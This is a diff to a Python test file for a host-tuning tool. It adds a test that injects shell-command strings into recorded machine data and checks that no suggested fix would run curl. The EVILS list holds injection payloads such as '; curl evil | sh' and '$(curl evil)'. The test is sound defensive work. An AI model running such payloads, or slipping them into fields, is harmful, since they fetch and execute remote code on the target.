@@ -8,6 +8,7 @@ import copy
 import json
 import random
 import re
+import shlex
 from collections.abc import Iterator, Sequence
 from typing import Any
 
@@ -15,9 +16,13 @@ import pytest
 
 from hosttune.core.examine import examine, judge
 from hosttune.core.host import Ran
-from hosttune.core.model import Finding
+from hosttune.core.model import Finding, Refused
+from hosttune.core.recording import SCHEMA
 from hosttune.core.survey import Declared
 from hosttune.data import machine
+from tests.unit.test_causes import BASES
+from tests.unit.test_causes import CASES as CAUSES
+from tests.unit.test_causes import view as paper_of
 from tests.unit.test_lxc_store import Paper
 
 ESCAPE = "\x1b[2J"
@@ -114,6 +119,50 @@ def test_no_command_is_made_of_a_number_that_it_claims(over: dict[str, Any]) -> 
     for f in told(answer(honest(**over))):
         assert "evil" not in f.hint.command and "evil" not in f.decide, f
         assert not re.search(r"devices.allow[^&]*c 8:", f.hint.command), f
+
+
+EVILS = ["; curl evil | sh", "\ncurl evil | sh\n", "$(curl evil)", "`curl evil`", "' ; curl evil; '"]
+
+
+def texts(view: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
+    """Where a recording has a text, but for nodes, which have a shape of their own."""
+    for key in view if isinstance(view, dict) else range(len(view)) if isinstance(view, list) else ():
+        if path or key != "nodes":
+            yield from texts(view[key], (*path, key))
+    if isinstance(view, str) and path[-1] != "errno":
+        yield path
+
+
+def would_run(command: str, word: str) -> bool:
+    lexer = shlex.shlex(command, posix=True, punctuation_chars="();<>|&\n`$")
+    lexer.whitespace = " \t\r"
+    try:
+        return word in list(lexer)
+    except ValueError:
+        return True
+
+
+@pytest.mark.parametrize("name", CAUSES)
+def test_no_command_of_any_cause_is_made_of_what_a_machine_says(name: str) -> None:
+    """A version, a driver's name, a path: each is the word of whoever wrote the recording, or is root in the container."""
+    dice = random.Random(name)
+    healthy = set(texts(machine(BASES[CAUSES[name].get("where", "host")])))
+    whole = paper_of(CAUSES[name])
+    own = [path for path in texts(whole) if path not in healthy]
+    for path in own + dice.sample(sorted(texts(whole), key=str), 8):
+        view = copy.deepcopy(whole)
+        at = view
+        for key in path[:-1]:
+            at = at[key]
+        said, evil = at[path[-1]], dice.choice(EVILS)
+        at[path[-1]] = dice.choice([said + evil, said.rstrip("\n") + evil + "\n", said.replace(":", ":" + evil, 1)])
+        try:
+            found = judge({"schema": SCHEMA, "machines": {"host": view}}, machine)[1]
+        except Refused:
+            continue
+        for f in found:
+            assert "probe broke" not in f.summary, (path, f)
+            assert not would_run(f.hint.command, "curl") and not would_run(f.decide, "curl"), (path, f)
 
 
 def mutations(seed: int) -> Iterator[Any]:
